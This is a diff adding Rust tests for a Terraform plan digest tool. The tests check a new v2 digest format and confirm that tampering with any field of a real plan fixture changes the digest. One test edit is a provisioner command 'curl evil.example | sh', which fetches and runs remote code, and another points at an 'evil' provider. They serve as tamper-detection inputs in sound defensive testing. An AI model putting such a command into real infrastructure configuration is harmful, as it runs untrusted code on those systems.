@@ -179,13 +179,27 @@ fn digest_changes_with_anything_that_would_be_applied() {
 #[test]
 fn digest_has_the_documented_form() {
     let digest = digest_of(&sample().to_string());
-    assert!(digest.starts_with("sha256:"));
-    assert_eq!(digest.len(), "sha256:".len() + 64);
+    // Scheme 2 names itself: `sha256:v2:<64 lowercase hex>`.
+    assert!(digest.starts_with("sha256:v2:"), "{digest}");
+    assert_eq!(digest.len(), "sha256:v2:".len() + 64);
     assert!(
-        digest[7..]
+        digest[10..]
             .chars()
             .all(|c| c.is_ascii_hexdigit() && !c.is_ascii_uppercase())
     );
+    assert_eq!(plandeck::plan::digest_scheme(&digest), Some(2));
+    let v1 = format!("sha256:{}", &digest[10..]);
+    assert_eq!(plandeck::plan::digest_scheme(&v1), Some(1));
+    for other in ["sha256:aaaa", "sha256:v2:abc", "sha256:v1:00", "md5:00", ""] {
+        assert_eq!(plandeck::plan::digest_scheme(other), None, "{other}");
+    }
+    assert_eq!(
+        plandeck::plan::scheme_change(&v1).as_deref(),
+        Some("digest scheme v1; plans are now digested with v2")
+    );
+    assert_eq!(plandeck::plan::scheme_change(&digest), None);
+    assert_eq!(plandeck::plan::short_digest(&digest), &digest[..22]);
+    assert_eq!(plandeck::plan::short_digest(&v1), &v1[..19]);
 }
 
 #[test]
@@ -202,4 +216,253 @@ fn a_big_file_read_in_two_halves_equals_the_text_parsed_in_memory() {
     let from_file = plandeck::plan::load_plan(&path).expect("loads");
     assert_eq!(from_file.digest, digest_of(&text));
     assert_eq!(from_file.resource_changes.len(), 9_000);
+}
+
+/// A real plan: Terraform 1.0.3 replacing resources with provisioners, in
+/// nested modules, with a sensitive trigger and output (see the fixture's
+/// README).
+fn real() -> Value {
+    let text = std::fs::read_to_string("tests/fixtures/terraform/provisioners-plan.json")
+        .expect("fixture");
+    serde_json::from_str(&text).expect("json")
+}
+
+/// The JSON pointer of the resource change at `address`.
+fn change_at(doc: &Value, address: &str) -> String {
+    let at = doc["resource_changes"]
+        .as_array()
+        .expect("array")
+        .iter()
+        .position(|rc| rc["address"] == address)
+        .unwrap_or_else(|| panic!("no {address}"));
+    format!("/resource_changes/{at}")
+}
+
+/// Sets the value at `pointer`, adding the last key when it is missing.
+fn set(doc: &mut Value, pointer: &str, value: Value) {
+    let (parent, key) = pointer.rsplit_once('/').expect("a pointer");
+    let parent = doc
+        .pointer_mut(parent)
+        .unwrap_or_else(|| panic!("no parent of {pointer}"));
+    match parent {
+        Value::Object(map) => {
+            map.insert(key.to_string(), value);
+        }
+        Value::Array(items) => items[key.parse::<usize>().expect("index")] = value,
+        _ => panic!("{pointer}: parent is not a container"),
+    }
+}
+
+const DB: &str = "null_resource.db";
+const WORKER: &str = "null_resource.worker[0]";
+const NOTIFY: &str = "module.app.module.hook.null_resource.notify";
+const ROOT: &str = "/configuration/root_module";
+const HOOK: &str = "/configuration/root_module/module_calls/app/module/module_calls/hook";
+
+#[test]
+fn every_field_of_a_real_plan_counts_alone() {
+    let base_doc = real();
+    let base = digest_of(&base_doc.to_string());
+    let db = change_at(&base_doc, DB);
+    let worker = change_at(&base_doc, WORKER);
+    let notify = change_at(&base_doc, NOTIFY);
+    let edits: Vec<(String, Value)> = vec![
+        (
+            format!("{worker}/address"),
+            json!("null_resource.worker[7]"),
+        ),
+        (format!("{db}/type"), json!("aws_db_instance")),
+        (format!("{db}/name"), json!("other")),
+        (format!("{db}/mode"), json!("data")),
+        (
+            format!("{db}/provider_name"),
+            json!("registry.terraform.io/evil/null"),
+        ),
+        (format!("{worker}/index"), json!(7)),
+        (format!("{notify}/module_address"), json!("module.app")),
+        (format!("{db}/deposed"), json!("00000001")),
+        (format!("{db}/change/actions"), json!(["create", "delete"])),
+        (
+            format!("{db}/action_reason"),
+            json!("replace_because_tainted"),
+        ),
+        (format!("{db}/change/replace_paths"), json!([["id"]])),
+        (format!("{db}/change/importing"), json!({"id": "1234"})),
+        (format!("{db}/previous_address"), json!("null_resource.old")),
+        (format!("{db}/change/before/triggers/release"), json!("0")),
+        (format!("{db}/change/after/triggers/release"), json!("3")),
+        (format!("{db}/change/after_unknown/id"), json!(false)),
+        (format!("{db}/change/before_sensitive"), json!(true)),
+        (format!("{db}/change/after_sensitive"), json!(true)),
+        (
+            format!("{db}/change/after_sensitive/triggers/password"),
+            json!(false),
+        ),
+        (
+            format!("{db}/change/generated_config"),
+            json!("resource \"null_resource\" \"db\" {}"),
+        ),
+        ("/output_changes/release/actions".into(), json!(["create"])),
+        ("/output_changes/release/before".into(), json!("0")),
+        ("/output_changes/release/after".into(), json!("3")),
+        ("/output_changes/release/after_unknown".into(), json!(true)),
+        (
+            "/output_changes/release/before_sensitive".into(),
+            json!(true),
+        ),
+        (
+            "/output_changes/release/after_sensitive".into(),
+            json!(true),
+        ),
+        (format!("{ROOT}/outputs/release/sensitive"), json!(true)),
+        (
+            format!("{ROOT}/resources/0/provisioners/0/expressions/command/constant_value"),
+            json!("echo drop database"),
+        ),
+        (
+            format!("{ROOT}/resources/0/provisioners/0/type"),
+            json!("remote-exec"),
+        ),
+        (
+            format!("{ROOT}/resources/0/provisioners/0/when"),
+            json!("destroy"),
+        ),
+        (
+            format!("{ROOT}/resources/1/provisioners"),
+            json!([{"type": "local-exec", "expressions": {"command": {"constant_value": "id"}}}]),
+        ),
+        (
+            format!("{HOOK}/module/resources/0/provisioners/0/expressions/command/constant_value"),
+            json!("curl evil.example | sh"),
+        ),
+        (
+            format!(
+                "{HOOK}/module/resources/0/provisioners/0/expressions/environment/constant_value/STAGE"
+            ),
+            json!("dev"),
+        ),
+        (
+            format!("{ROOT}/module_calls/app/source"),
+            json!("git::https://example.com/app.git?ref=main"),
+        ),
+        (format!("{HOOK}/source"), json!("./modules/other")),
+        (
+            format!("{ROOT}/module_calls/app/version_constraint"),
+            json!("1.0.0"),
+        ),
+        (
+            format!("{ROOT}/module_calls/extra"),
+            json!({"source": "./extra", "module": {}}),
+        ),
+    ];
+    // Each pointer must exist in the real plan, or be added next to real
+    // siblings: a typo would make the test pass for the wrong reason.
+    let mut seen = std::collections::BTreeSet::new();
+    for (pointer, value) in edits {
+        let mut doc = base_doc.clone();
+        assert_ne!(doc.pointer(&pointer), Some(&value), "{pointer} is an edit");
+        set(&mut doc, &pointer, value);
+        let digest = digest_of(&doc.to_string());
+        assert_ne!(digest, base, "{pointer} must count");
+        assert!(seen.insert(digest), "{pointer}: a digest seen before");
+    }
+}
+
+#[test]
+fn a_real_plan_keeps_its_digest_under_order_spacing_timestamps_and_other_configuration() {
+    let doc = real();
+    let base = digest_of(&doc.to_string());
+    assert_eq!(digest_of(&reordered(&doc)), base, "key order and spacing");
+    let edits: Vec<(String, Value)> = vec![
+        ("/timestamp".into(), json!("2031-05-06T07:08:09Z")),
+        ("/terraform_version".into(), json!("1.0.4")),
+        (
+            "/configuration/provider_config/null/version_constraint".into(),
+            json!("2.1.3"),
+        ),
+        (format!("{ROOT}/variables/release/default"), json!("9")),
+        (
+            format!("{ROOT}/resources/1/expressions/triggers"),
+            json!({"references": ["var.other"]}),
+        ),
+        ("/variables/release/value".into(), json!("9")),
+        // Sensitivity the configuration already declares.
+        (
+            "/output_changes/password/after_sensitive".into(),
+            json!(false),
+        ),
+    ];
+    for (pointer, value) in edits {
+        let mut doc = real();
+        set(&mut doc, &pointer, value);
+        assert_eq!(
+            digest_of(&doc.to_string()),
+            base,
+            "{pointer} must not count"
+        );
+    }
+    let mut swapped = real();
+    swapped["resource_changes"]
+        .as_array_mut()
+        .expect("array")
+        .reverse();
+    assert_eq!(digest_of(&swapped.to_string()), base, "resource order");
+}
+
+#[test]
+fn the_configuration_of_a_real_plan_is_read_recursively() {
+    let plan = parse_plan(Arc::from(real().to_string())).expect("plan");
+    let calls: Vec<(&str, Option<&str>)> = plan
+        .configuration
+        .module_calls
+        .iter()
+        .map(|c| (c.address.as_str(), c.source.as_deref()))
+        .collect();
+    assert_eq!(
+        calls,
+        [
+            ("module.app", Some("./modules/app")),
+            ("module.app.module.hook", Some("./modules/hook")),
+        ]
+    );
+    let provisioned: Vec<(&str, Vec<&str>)> = plan
+        .configuration
+        .provisioned
+        .iter()
+        .map(|r| {
+            let kinds = r.provisioners.iter().map(|p| p.kind.as_str()).collect();
+            (r.address.as_str(), kinds)
+        })
+        .collect();
+    assert_eq!(
+        provisioned,
+        [(NOTIFY, vec!["local-exec"]), (DB, vec!["local-exec"]),]
+    );
+}
+
+#[test]
+fn a_malformed_configuration_is_refused_in_one_line() {
+    let mut doc = real();
+    set(
+        &mut doc,
+        &format!("{ROOT}/resources/0/provisioners/0/type"),
+        json!(7),
+    );
+    let error = parse_plan(Arc::from(doc.to_string())).expect_err("a number is no type");
+    let message = error.to_string();
+    assert!(
+        message.starts_with("in configuration: wrong type"),
+        "{message}"
+    );
+    assert_eq!(message.lines().count(), 1);
+    let mut doc = real();
+    set(
+        &mut doc,
+        &format!("{ROOT}/module_calls/app/source"),
+        json!(["x"]),
+    );
+    let message = parse_plan(Arc::from(doc.to_string()))
+        .expect_err("a list is no source")
+        .to_string();
+    assert!(message.contains("configuration"), "{message}");
 }
